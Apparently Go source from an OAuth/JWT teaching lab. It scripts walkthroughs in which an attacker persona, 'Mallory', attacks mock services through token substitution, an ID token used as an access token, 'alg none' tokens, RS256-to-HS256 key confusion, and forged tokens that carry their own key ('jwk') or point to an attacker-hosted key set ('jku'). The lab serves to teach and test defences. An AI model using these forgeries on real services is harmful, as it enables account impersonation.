package walkthrough

import (
	"bytes"
	"context"
	"crypto/ed25519"
	"crypto/hmac"
	"crypto/sha256"
	"crypto/x509"
	"encoding/base64"
	"encoding/json"
	"maps"
	"net/http"
	"net/url"
	"strings"

	"github.com/go-jose/go-jose/v4"
	"golang.org/x/oauth2"

	"claimcheck/mockprovider/lab"
	"claimcheck/mockprovider/trace"
)

// tokenSubstitution is the attack token-substitution: an API uses a token that it
// was given at another API.
func tokenSubstitution() *script {
	return &script{
		config: func(*Variant) lab.RunConfig { return lab.RunConfig{PKCE: true, Scope: lab.ScopeMealsRead} },
		actions: map[string]*action{
			"connected": {
				half: HalfResponse, owns: during("connected", "/token"), good: accepted, preview: previewConnect, back: connectForAlice,
			},
			"meal-request": {
				half: HalfRequest, after: "connected", owns: during("meal-request", "/v1/meals"), good: accepted,
				preview: needs("connected", "has no token yet", func(_ context.Context, w *Walk) (*Draft, error) {
					l := w.run.Lab()
					d, err := get(l.Origin() + "/rs/" + l.ID() + "/" + lab.MealCloud + "/v1/meals")
					if err == nil {
						d.Header.Set("Authorization", "Bearer "+carried(w.current("connected"), HalfResponse, "access_token"))
					}
					return d, err
				}),
				back: sendAs(lab.ClientParty(lab.FitTrack)),
			},
			"api-request": mallorySends("api-request", "meal-request", "/v1/steps", needs("meal-request", "has shown MealCloud no token yet", func(_ context.Context, w *Walk) (*Draft, error) {
				_, token, _ := strings.Cut(w.current("meal-request").Request.Header.Get("Authorization"), " ")
				return bearer(w, "/v1/steps", token)
			})),
			"api-check":    {of: "api-request", half: HalfFindings},
			"api-response": {of: "api-request", half: HalfResponse},
		},
	}
}

// idTokenAsAccessToken is the attack id-token-as-access-token: what tells an app
// who somebody is opens an API.
func idTokenAsAccessToken() *script {
	return &script{
		config: func(*Variant) lab.RunConfig { return lab.RunConfig{PKCE: true, Scope: lab.ScopeLogin} },
		actions: map[string]*action{
			"connected": {
				half: HalfResponse, owns: during("connected", "/token"), good: accepted, preview: previewConnect, back: connectForAlice,
			},
			"api-request": mallorySends("api-request", "connected", "/v1/steps", needs("connected", "has no ID token yet", func(_ context.Context, w *Walk) (*Draft, error) {
				return bearer(w, "/v1/steps", carried(w.current("connected"), HalfResponse, "id_token"))
			})),
			"api-check":    {of: "api-request", half: HalfFindings},
			"api-response": {of: "api-request", half: HalfResponse},
		},
	}
}

// malloryOwnToken is a step in which Mallory gets an access token of her own, by
// logging in as herself.
func malloryOwnToken() *action {
	return &action{
		half: HalfResponse, owns: during("own-token", "/token"), good: accepted, preview: previewConnect,
		back: tokenFor("mallory"),
	}
}

// tokenFor gets tokens for one of the people, who sits before Mallory's browser.
func tokenFor(user string) func(context.Context, *Walk, *http.Request) (*trace.Entry, error) {
	return tokenWith(user, lab.ScopeStepsRead)
}

// tokenWith is tokenFor with a scope.
func tokenWith(user, scope string) func(context.Context, *Walk, *http.Request) (*trace.Entry, error) {
	return func(ctx context.Context, w *Walk, _ *http.Request) (*trace.Entry, error) {
		callback := w.run.Lab().Origin() + "/app/" + w.run.Lab().ID() + "/" + lab.FitTrackLite + "/callback"
		e, err := grantedTo(ctx, user, authorizationURL(w, url.Values{
			"response_type": {"code"}, "client_id": {lab.FitTrackLite}, "scope": {scope}, "redirect_uri": {callback}, "state": {"mallory"},
			"code_challenge": {oauth2.S256ChallengeFromVerifier(malloryVerifier)}, "code_challenge_method": {"S256"},
		}), w.run.BrowseAsMallory)
		if err != nil {
			return nil, err
		}
		if !toCode(w, e) {
			return e, nil
		}
		d, err := tokenForm(w, url.Values{
			"grant_type": {"authorization_code"}, "code": {e.Response.Location().Query().Get("code")}, "client_id": {lab.FitTrackLite},
			"redirect_uri": {callback}, "code_verifier": {malloryVerifier},
		})
		if err != nil {
			return nil, err
		}
		r, err := d.request(ctx)
		if err != nil {
			return nil, err
		}
		return w.run.SendAs(ctx, lab.MalloryParty(), r)
	}
}

// aliceInPlace is the payload of Mallory's own token with Alice in her place, in
// base64url.
func aliceInPlace(w *Walk) string {
	parts := strings.Split(carried(w.current("own-token"), HalfResponse, "access_token"), ".")
	if len(parts) != 3 {
		return ""
	}
	payload, err := base64.RawURLEncoding.DecodeString(parts[1])
	if err != nil {
		return ""
	}
	return base64.RawURLEncoding.EncodeToString(inAlicesName(payload))
}

// inAlicesName is a payload of Mallory's with Alice as its subject.
func inAlicesName(payload []byte) []byte {
	return bytes.ReplaceAll(payload, []byte(`"sub":"mallory"`), []byte(`"sub":"alice"`))
}

// forged is a token about Alice with this header; sign makes its signature.
func forged(w *Walk, header string, sign func(input string) []byte) string {
	input := base64.RawURLEncoding.EncodeToString([]byte(header)) + "." + aliceInPlace(w)
	return input + "." + base64.RawURLEncoding.EncodeToString(sign(input))
}

// algNone is the attack alg-none: a token that nobody signed.
func algNone() *script {
	forge := func(w *Walk) string {
		return forged(w, `{"alg":"none","typ":"at+jwt"}`, func(string) []byte { return nil })
	}
	return forgery("own-token", forge, map[string]*action{})
}

// keyConfusion is the attack key-confusion: the published key as an HMAC secret.
func keyConfusion() *script {
	keys := mallorySends("keys", "own-token", "/jwks", func(_ context.Context, w *Walk) (*Draft, error) {
		return get(w.run.Lab().Issuer() + "/jwks")
	})
	forge := func(w *Walk) string {
		secret := publishedKey(w.current("keys"))
		return forged(w, `{"alg":"HS256","typ":"at+jwt"}`, func(input string) []byte {
			mac := hmac.New(sha256.New, secret)
			mac.Write([]byte(input))
			return mac.Sum(nil)
		})
	}
	return forgery("keys", forge, map[string]*action{"keys": keys})
}

// forgery is an attack with a token that Mallory made, once a step has brought
// what she needs for it.
func forgery(after string, forge func(w *Walk) string, more map[string]*action) *script {
	actions := map[string]*action{
		"own-token": malloryOwnToken(),
		"forge":     {of: after, half: HalfMemory},
		"api-request": mallorySends("api-request", after, "/v1/steps", needs(after, "has not brought what Mallory needs", func(_ context.Context, w *Walk) (*Draft, error) {
			return bearer(w, "/v1/steps", forge(w))
		})),
		"api-check":    {of: "api-request", half: HalfFindings},
		"api-response": {of: "api-request", half: HalfResponse},
	}
	maps.Copy(actions, more)
	return &script{actions: actions, memory: func(w *Walk, name string) string {
		if e := w.current(after); name == "forged token" && e != nil && accepted(w, e) {
			return forge(w)
		}
		return ""
	}}
}

// publishedKey is the RS256 key of a JWK Set as bytes, in the form in which keys
// are usually kept (DER).
func publishedKey(e *trace.Entry) []byte {
	var set jose.JSONWebKeySet
	if e == nil || json.Unmarshal(e.Response.Body, &set) != nil {
		return nil
	}
	for _, k := range set.Keys {
		if k.Algorithm != "RS256" {
			continue
		}
		if der, err := x509.MarshalPKIXPublicKey(k.Key); err == nil {
			return der
		}
	}
	return nil
}

// keyInToken is the attack key-in-token: a token that brings the key that it is
// to be checked with.
func keyInToken() *script {
	forge := func(w *Walk) string {
		return forged(w, `{"alg":"EdDSA","typ":"at+jwt","jwk":`+lab.MalloryJWK()+`}`, signedByMallory)
	}
	return forgery("own-token", forge, map[string]*action{})
}

// keyAtAddress is the attack key-at-address: a token that says where to fetch the
// key that it is to be checked with.
func keyAtAddress() *script {
	forge := func(w *Walk) string {
		return forged(w, `{"alg":"EdDSA","typ":"at+jwt","kid":"mallory-1","jku":"`+w.run.Lab().MalloryKeysURL()+`"}`, signedByMallory)
	}
	fetched := func(e *trace.Entry) bool { return e.To.Role == trace.RoleAttacker }
	return forgery("own-token", forge, map[string]*action{
		"key-fetch": {of: "api-request", half: HalfResponse, within: fetched},
	})
}

func signedByMallory(input string) []byte { return ed25519.Sign(lab.MalloryKey(), []byte(input)) }
